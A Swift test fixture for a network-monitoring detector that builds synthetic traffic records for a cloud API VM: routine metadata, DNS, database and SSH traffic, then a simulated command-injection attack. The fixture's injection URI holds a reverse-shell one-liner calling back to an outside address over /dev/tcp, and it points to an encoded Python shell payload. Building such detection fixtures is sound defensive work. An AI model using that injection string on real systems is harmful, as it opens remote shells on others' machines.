import Detectors
import FleetModel

/// Builds the Fleetwatch story as records: an API VM (172.31.6.55, HTTP on 3000) with normal background
/// traffic, a command injection naming 35.217.6.162:3000, and a 20-minute reverse shell.
struct StoryBuilder {
    static let t0: Int64 = 1_700_000_000
    static let vm = IPAddress("172.31.6.55") ?? .v4(0)
    static let resolver = IPAddress("172.31.0.2") ?? .v4(0)
    static let database = IPAddress("172.31.9.20") ?? .v4(0)
    static let bastion = IPAddress("172.31.1.10") ?? .v4(0)
    static let admin = IPAddress("203.0.113.7") ?? .v4(0)
    static let github = IPAddress("140.82.121.4") ?? .v4(0)
    static let attacker = IPAddress("198.51.100.23") ?? .v4(0)
    static let callback = IPAddress("35.217.6.162") ?? .v4(0)
    static let imds = IPAddress("169.254.169.254") ?? .v4(0)
    static let ntp = IPAddress("169.254.169.123") ?? .v4(0)
    static let injectionShellURI = "/dangerzone?category=fashion&&sh -i >& /dev/tcp/35.217.6.162/3000 0>&1"
    static let injectionPythonRaw = PayloadMatcherTests.storyPythonEncoded
    static let injectionPythonDecoded = PayloadDecoder.decode(uri: PayloadMatcherTests.storyPythonEncoded).text

    static func time(_ seconds: Double) -> NetworkTime {
        NetworkTime(microseconds: t0 * 1_000_000 + Int64(seconds * 1_000_000))
    }

    static func conn(
        _ uid: String, at start: Double, _ orig: IPAddress, _ origPort: UInt16, _ resp: IPAddress, _ respPort: UInt16,
        proto: TransportProtocol = .tcp, service: [String] = [], duration: Double, state: ConnState = .SF,
        bytes: (UInt64, UInt64) = (500, 1500), interim: Bool = false
    ) -> ConnRecord {
        ConnRecord(
            ts: time(start), uid: uid,
            id: ConnID(originatorHost: orig, originatorPort: origPort, responderHost: resp, responderPort: respPort),
            proto: proto, service: service, duration: NetworkDuration(microseconds: Int64(duration * 1_000_000)),
            originatorBytes: bytes.0, responderBytes: bytes.1, connState: interim ? .S1 : state,
            history: "ShADad", originatorPackets: 10, originatorIPBytes: bytes.0 + 400, responderPackets: 10,
            responderIPBytes: bytes.1 + 400, ipProto: proto == .udp ? 17 : 6, interim: interim)
    }

    /// Batches as an agent would ship them, one per minute of story time.
    static func batches() -> [RecordBatch] {
        var minutes: [Int: RecordBatch] = [:]
        func add(at seconds: Double, _ body: (inout RecordBatch) -> Void) {
            body(&minutes[Int(seconds / 60), default: RecordBatch()])
        }
        // Background: metadata calls and time sync every 60 s for 50 minutes, a DNS lookup and HTTPS
        // fetch of github.com every 5 minutes.
        for i in 0..<50 {
            let s = Double(i * 60) + 1
            add(at: s) { b in
                b.conns.append(
                    conn(
                        "CM\(i)", at: s, vm, UInt16(40000 + i), imds, 80, service: ["http"], duration: 0.01,
                        bytes: (120, 800)))
                b.http.append(
                    HTTPRecord(
                        ts: time(s), uid: "CM\(i)",
                        id: ConnID(
                            originatorHost: vm, originatorPort: UInt16(40000 + i),
                            responderHost: imds, responderPort: 80),
                        transDepth: 1, method: "GET", host: "169.254.169.254",
                        uri: "/latest/meta-data/iam/security-credentials/", statusCode: 200,
                        uriRaw: "/latest/meta-data/iam/security-credentials/"))
                b.conns.append(
                    conn(
                        "CT\(i)", at: s + 2, vm, 123, ntp, 123, proto: .udp, service: ["ntp"],
                        duration: 0.001, bytes: (48, 48)))
            }
        }
        for i in 0..<10 {
            let s = Double(i * 300) + 5
            add(at: s + 0.1) { b in
                let dnsID = ConnID(
                    originatorHost: vm, originatorPort: UInt16(50000 + i), responderHost: resolver,
                    responderPort: 53)
                b.dns.append(
                    DNSRecord(
                        ts: time(s), uid: "CD\(i)", id: dnsID, proto: .udp, query: "github.com",
                        qclass: 1, qtype: 1, rcode: 0, answers: ["140.82.121.4"], ttls: [60]))
                b.conns.append(
                    conn(
                        "CD\(i)", at: s, vm, UInt16(50000 + i), resolver, 53, proto: .udp,
                        service: ["dns"], duration: 0.002, bytes: (28, 44)))
                b.conns.append(
                    conn(
                        "CG\(i)", at: s + 0.05, vm, UInt16(41000 + i), github, 443, service: ["ssl"],
                        duration: 1.5, bytes: (900, 40000)))
                b.ssl.append(
                    SSLRecord(
                        ts: time(s + 0.06), uid: "CG\(i)",
                        id: ConnID(
                            originatorHost: vm, originatorPort: UInt16(41000 + i),
                            responderHost: github, responderPort: 443),
                        version: "TLSv13", serverName: "github.com", established: true))
            }
        }
        // Intra-VPC: a long database connection pool entry (30 min, interim every 5 min).
        for k in 1...6 {
            add(at: Double(k * 300) + 30) { b in
                b.conns.append(
                    conn(
                        "CP", at: 30, vm, 45000, database, 5432, duration: Double(k * 300),
                        interim: k < 6))
            }
        }
        // Admin SSH sessions, 20 minutes each: from an allowlisted admin address and from the VPC bastion.
        for k in 1...4 {
            add(at: Double(k * 300) + 60) { b in
                b.conns.append(
                    conn(
                        "CS1", at: 60, admin, 51000, vm, 22, service: ["ssh"], duration: Double(k * 300),
                        bytes: (40000, 90000), interim: k < 4))
                b.conns.append(
                    conn(
                        "CS2", at: 62, bastion, 52000, vm, 22, service: ["ssh"], duration: Double(k * 300),
                        bytes: (30000, 80000), interim: k < 4))
            }
        }
        // The attack. First injection (sh -i over /dev/tcp), raw on the wire; it does not call back.
        add(at: 900) { b in
            b.conns.append(conn("CA1", at: 900, attacker, 40001, vm, 3000, service: ["http"], duration: 0.2))
            b.http.append(
                HTTPRecord(
                    ts: time(900), uid: "CA1",
                    id: ConnID(
                        originatorHost: attacker, originatorPort: 40001, responderHost: vm,
                        responderPort: 3000),
                    transDepth: 1, method: "GET", host: "172.31.6.55:3000", uri: injectionShellURI,
                    userAgent: "curl/8.5.0", uriRaw: injectionShellURI))
        }
        // Second injection (python pty), percent-encoded; the VM calls back 0.4 s later and the shell stays open
        // 20 minutes. The HTTP request hangs with the shell, so its record arrives after the first interim conn.
        let start = 960.0
        for k in 1...4 {
            add(at: start + Double(k * 300)) { b in
                b.conns.append(
                    conn(
                        "CR", at: start + 0.4, vm, 48211, callback, 3000, duration: Double(k * 300),
                        bytes: (UInt64(k) * 2000, UInt64(k) * 300), interim: k < 4))
                if k == 1 {
                    b.conns.append(
                        conn(
                            "CA2", at: start, attacker, 40002, vm, 3000, service: ["http"],
                            duration: 300, interim: true))
                    b.http.append(
                        HTTPRecord(
                            ts: time(start), uid: "CA2",
                            id: ConnID(
                                originatorHost: attacker, originatorPort: 40002,
                                responderHost: vm, responderPort: 3000),
                            transDepth: 1, method: "GET", host: "172.31.6.55:3000",
                            uri: injectionPythonDecoded, userAgent: "curl/8.5.0",
                            uriRaw: injectionPythonRaw))
                }
            }
        }
        return minutes.keys.sorted().compactMap { minutes[$0] }
    }

    static var noise: NoiseModel {
        NoiseModel(
            vpcs: ["vm-api": [CIDR("172.31.0.0/16")].compactMap { $0 }],
            allowlist: [.init(cidrs: [CIDR("203.0.113.0/24")].compactMap { $0 }, agents: ["vm-api"])])
    }
}
